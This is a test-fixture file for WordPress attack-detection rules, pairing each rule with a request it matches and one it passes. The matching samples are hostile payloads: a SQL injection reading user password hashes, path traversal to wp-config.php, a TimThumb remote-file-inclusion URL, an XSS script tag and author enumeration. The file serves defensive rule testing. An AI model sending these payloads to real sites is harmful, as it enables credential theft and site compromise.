// For each rule of slr-et-wordpress-attacks.ts by its id: a request that it matches, and one that it passes.
import type { RuleSamples } from '../request-sample.cases.ts'
import { get } from './sample-requests.cases.ts'

export const SLR_ET_WORDPRESS_ATTACKS_SAMPLES: RuleSamples = {
  b55ad84499918dd2b00fa932a0705bcf: {
    matching: get('/wp-content/plugins/gallery/show.php?gid=1+union+select+user_pass+from+wp_users'),
    passing: get('/wp-admin/post.php?post=4&action=edit&title=Select+and+buy'),
  },
  '39eee8cfe8920bfb1e3e078b80b0f3fa': {
    matching: get('/wp-admin/admin-ajax.php?action=show_image&img=../wp-config.php'),
    passing: get('/wp-admin/admin-ajax.php?action=show_image&img=2025/01/a.png'),
  },
  '72e71a4de4b0f863f378b4724302be44': {
    matching: get('/wp-content/themes/x/timthumb.php?src=http://flickr.com.192.0.2.66/x.php'),
    passing: get('/wp-content/themes/x/timthumb.php?src=/uploads/a.jpg&w=200'),
  },
  '534432bdd8a0ae99c482c48d7b46e3db': {
    matching: get('/wp-content/plugins/x/player.php?id=%22%3E%3Cscript%3Ealert(1)%3C/script%3E'),
    passing: get('/wp-content/plugins/x/player.php?id=42&title=On+air'),
  },
  '85bc7745682b971caba14eb66d65a246': {
    matching: get('/?author=1'),
    passing: get('/?author_name=carol'),
  },
}
